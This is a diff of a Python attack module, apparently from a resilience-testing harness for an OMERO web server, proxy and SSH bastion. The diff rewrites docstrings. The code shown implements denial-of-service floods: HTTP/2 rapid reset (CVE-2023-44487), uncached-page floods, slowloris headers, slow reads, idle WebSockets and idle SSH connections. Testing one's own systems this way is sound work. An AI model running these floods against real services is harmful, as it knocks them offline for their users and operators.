@@ -1,6 +1,6 @@
-"""The hostile visitor: `python -m harness.attack.hostile KIND ADDRESS HOST SECONDS` does one thing for that long.
+"""A hostile visitor: `python -m harness.attack.hostile KIND ADDRESS HOST SECONDS` runs one kind of attack for so long.
 
-Prints as JSON how much of it was done. Runs in a network namespace of its own, so that it has an address of its own.
+Prints counts of what it did as JSON. Runs in its own network namespace, so that it has its own address.
 """
 
 import json
@@ -22,30 +22,30 @@ import h2.exceptions
 COLD = "/webgateway/render_image/{}/0/0/?q=0.{}"
 KEPT = "/webgateway/get_thumbnails/?" + "&".join(f"id={number}" for number in range(1, 51))
 STREAMS = 100
-"""Requests of one connection that are under way at once."""
+"""Open requests of one connection at the same time."""
 LOTS = 100
-"""Of so many requests each, what one connection asks for in a flood of kept pages."""
+"""Requests of one connection in a flood of cached pages."""
 HELD = 2400
 SECONDS_TO_CONNECT = 2
 
 
 def main(kind: str, address: str, host: str, seconds: float) -> dict[str, int]:
-    """What one kind of attack could do in so many seconds."""
+    """Run one kind of attack for so many seconds; return counts of what it did."""
     return KINDS[kind](address, host, time.monotonic() + seconds)
 
 
 def cold(address: str, host: str, end: float) -> dict[str, int]:
-    """Ask for pages that nobody has asked for, as fast as HTTP/2 takes them, and read the answers."""
+    """Request pages that are not cached, as fast as HTTP/2 permits, and read the responses."""
     return _ask(address, host, end, reset=False)
 
 
 def reset(address: str, host: str, end: float) -> dict[str, int]:
-    """The same, giving each request up at once (CVE-2023-44487)."""
+    """The same, but cancel each request at once (CVE-2023-44487)."""
     return _ask(address, host, end, reset=True)
 
 
 def kept(address: str, host: str, end: float) -> dict[str, int]:
-    """The same with pages that are kept, as fast as the proxy takes them."""
+    """The same with cached pages, as fast as the proxy accepts them."""
     asked = connections = 0
     while time.monotonic() < end:
         with suppress(OSError), closing(_secured(address, host, "h2")) as wire:
@@ -60,25 +60,25 @@ def kept(address: str, host: str, end: float) -> dict[str, int]:
 
 
 def headers(address: str, _: str, end: float) -> dict[str, int]:
-    """Connections whose request never ends."""
+    """Open connections with requests that never end."""
     return _hold(end, lambda: _begun(_connected(address, 80), b"GET / HTTP/1.1\r\nHost: x\r\nX-Slow: "))
 
 
 def reading(address: str, host: str, end: float) -> dict[str, int]:
-    """Visitors who ask for a large answer and do not read it."""
+    """Request a large response and do not read it."""
     request = f"GET {KEPT} HTTP/1.1\r\nHost: {host}\r\n\r\n".encode()
     return _hold(end, lambda: _begun(_secured(address, host), request))
 
 
 def websockets(address: str, host: str, end: float) -> dict[str, int]:
-    """Websockets that say nothing."""
+    """Open WebSockets that send nothing."""
     asked = f"GET /omero-ws HTTP/1.1\r\nHost: {host}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
     rest = "Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n"
     return _hold(end, lambda: _begun(_secured(address, host), f"{asked}{rest}".encode()))
 
 
 def ssh(address: str, _: str, end: float) -> dict[str, int]:
-    """Connections to the bastion that never log in."""
+    """Open connections to the bastion that never log in."""
     return _hold(end, lambda: _connected(address, 22))
 
 
@@ -94,7 +94,7 @@ KINDS: dict[str, Callable[[str, str, float], dict[str, int]]] = {
 
 
 def _hold(end: float, connect: Callable[[], socket.socket]) -> dict[str, int]:
-    """Keep as many connections as there may be, and open another for each that is closed."""
+    """Keep as many connections open as possible, and open another one for each that is closed."""
     held: list[socket.socket] = []
     opened = failed = 0
     while time.monotonic() < end:
@@ -122,7 +122,7 @@ def _ask(address: str, host: str, end: float, *, reset: bool) -> dict[str, int]:
 
 
 def _requests(wire: ssl.SSLSocket, host: str, end: float, *, reset: bool) -> Iterator[int]:
-    """Each request of one connection, until the server has had enough of it."""
+    """Yield each request of one connection, until the server closes it."""
     connection = h2.connection.H2Connection()
     connection.initiate_connection()
     wire.settimeout(0.05)
@@ -143,7 +143,7 @@ def _requests(wire: ssl.SSLSocket, host: str, end: float, *, reset: bool) -> Ite
 
 @cache
 def _given_up(host: str) -> list[bytes]:
-    """What one connection sends, made once: an attack whose own work is small."""
+    """Return the bytes that one connection sends. They are created once, so that the attack itself costs little."""
     connection, lots = h2.connection.H2Connection(), []
     connection.initiate_connection()
     names = {":method": "GET", ":scheme": "https", ":authority": host, ":path": KEPT}
@@ -156,7 +156,7 @@ def _given_up(host: str) -> list[bytes]:
 
 
 def _drain(wire: ssl.SSLSocket) -> None:
-    """Take what has come; raises ConnectionResetError at the end."""
+    """Read what has arrived. Raises ConnectionResetError at the end."""
     wire.settimeout(0.001)
     while wire.recv(65536):
         pass
@@ -164,7 +164,7 @@ def _drain(wire: ssl.SSLSocket) -> None:
 
 
 def _read(wire: ssl.SSLSocket, connection: h2.connection.H2Connection) -> None:
-    """Send what is to be sent, and take what has come."""
+    """Send what is pending, and read what has arrived."""
     wire.sendall(connection.data_to_send())
     with suppress(TimeoutError, ssl.SSLWantReadError):
         data = wire.recv(65536)
@@ -186,7 +186,7 @@ def _secured(address: str, host: str, protocol: str = "http/1.1") -> ssl.SSLSock
 
 @cache
 def _context(protocol: str) -> ssl.SSLContext:
-    # Who attacks looks at no certificate, and does not read the system's for each connection.
+    # An attacker verifies no certificate, and does not load the system's authorities for each connection.
     context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
     context.check_hostname = False
     context.verify_mode = ssl.CERT_NONE
